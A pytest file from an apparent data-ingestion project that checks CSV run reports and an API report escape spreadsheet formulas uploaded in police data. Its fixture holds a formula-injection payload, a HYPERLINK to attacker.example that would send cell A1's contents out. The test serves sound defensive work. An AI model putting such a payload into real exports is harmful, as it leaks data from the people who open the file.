"""A cell a spreadsheet would run as a formula reaches no export intact (issue 21, finding 7)."""

import csv
import io

import pytest

from ingestion.reports import run_issues_csv_write
from observatory.accounts.roles import Role
from tests.ingestion.conftest import POLICE_HEADER, csv_bytes, police_row
from tests.reconciliation.conftest import demo_city, english_messages, raw_store, run_file  # noqa: F401

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def run_with_a_formula(run_file):  # noqa: F811
    row = police_row(fecha_hecho=FORMULA)
    return run_file(csv_bytes(POLICE_HEADER, [row]), source="police", filename="police-formula.csv")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_run_report_and_the_drop_folder_report_neutralise_an_uploaded_formula(run_with_a_formula):
    out = io.BytesIO()
    run_issues_csv_write(run=run_with_a_formula, out=out)

    cells = _cells(out.getvalue().decode())
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_the_api_run_report_neutralises_an_uploaded_formula(client, user_with_role, run_with_a_formula):
    client.force_login(user_with_role(Role.ANALYST))

    response = client.get(f"/api/v1/imports/{run_with_a_formula.pk}/report.csv/")

    cells = _cells(b"".join(response.streaming_content).decode())
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
